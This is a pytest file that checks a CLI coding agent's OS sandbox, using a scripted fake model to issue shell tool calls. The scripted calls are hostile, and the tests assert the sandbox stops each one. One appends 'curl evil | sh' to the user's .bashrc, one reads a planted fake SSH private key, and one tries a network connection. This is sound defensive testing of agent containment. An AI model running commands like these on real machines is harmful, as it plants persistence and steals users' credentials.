"""execute_command in the OS sandbox, in a real `paicli -p` run (issue 24): an allowed command
cannot write the user's startup files, read their keys or reach this machine's network; in
accept-edits mode a contained command runs unasked, an uncontained one does not; and
`paicli sandbox` runs one command the same way, its exit code passed through."""

from __future__ import annotations

import json
import socket
import sys
from pathlib import Path

import pytest

from paicli.mcp import Sandbox, check_sandbox
from tests.cli.test_oneshot import paicli
from tests.llm_server import Json, ScriptedLlm

pytestmark = [
    pytest.mark.real,
    pytest.mark.skipif(
        check_sandbox().mechanism(Sandbox.for_project("/tmp")) is None,
        reason="no sandbox mechanism works on this machine (bubblewrap or Landlock)",
    ),
]

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nNOT-A-REAL-KEY-4242\n"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("export KEEP=1\n")
    (home / ".ssh" / "id_ed25519").write_text(KEY)
    root = tmp_path / "project"
    root.mkdir()
    return root


def commands(*lines: str) -> list[Json]:
    calls = [
        {"id": f"c{i}", "name": "execute_command", "arguments": json.dumps({"command": line})}
        for i, line in enumerate(lines)
    ]
    return [{"tool_calls": calls}, {"text": "done"}]


def results(llm: ScriptedLlm) -> list[str]:
    return [m["content"] for m in llm.requests[1]["messages"] if m["role"] == "tool"]


async def test_an_allowed_command_writes_the_project_and_nothing_of_the_users(
    project: Path,
) -> None:
    home = project.parent / "home"
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        reach = (
            f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', "
            f"{port}), timeout=2); print('REACHED')\""
        )
        script = commands(
            "echo made > inside.txt && cat inside.txt",
            'echo "curl evil | sh" >> "$HOME/.bashrc"',
            'cat "$HOME/.ssh/id_ed25519"',
            reach,
        )
        async with ScriptedLlm(script) as llm:
            run = await paicli(project, "-p", "go", "--allow", "execute_command", llm=llm)
    assert run.code == 0, run.stderr
    inside, bashrc, key, network = results(llm)
    assert inside.startswith("made") and (project / "inside.txt").read_text() == "made\n"
    assert (home / ".bashrc").read_text() == "export KEEP=1\n"
    assert "[exit code 0]" not in bashrc
    assert "NOT-A-REAL-KEY" not in json.dumps(llm.requests)
    assert "[exit code 0]" not in key
    assert "REACHED" not in network and "[exit code 0]" not in network


async def test_accept_edits_runs_a_contained_command_unasked_and_an_uncontained_one_not(
    project: Path,
) -> None:
    async with ScriptedLlm(commands("echo ran > ran.txt")) as llm:
        run = await paicli(project, "-p", "go", "--permission-mode", "accept-edits", llm=llm)
    assert run.code == 0, run.stderr
    assert (project / "ran.txt").read_text() == "ran\n"
    (project / "ran.txt").unlink()
    async with ScriptedLlm(commands("echo ran > ran.txt")) as llm:
        run = await paicli(
            project, "-p", "go", "--permission-mode", "accept-edits", "--sandbox", "off", llm=llm
        )
    assert run.code == 0, run.stderr
    assert not (project / "ran.txt").exists()
    assert "was not run" in results(llm)[0]


async def test_paicli_sandbox_runs_a_command_as_execute_command_would(project: Path) -> None:
    home = project.parent / "home"
    run = await paicli(
        project, "sandbox", "--", "sh", "-c", 'echo x >> "$HOME/.bashrc"; echo ok > here; exit 7'
    )
    assert run.code == 7
    assert (project / "here").read_text() == "ok\n"
    assert (home / ".bashrc").read_text() == "export KEEP=1\n"
    run = await paicli(project, "sandbox", "--check")
    assert run.code == 0 and "commands: contained by" in run.stdout
    run = await paicli(project, "sandbox")
    assert run.code == 2 and "give a command after --" in run.stderr
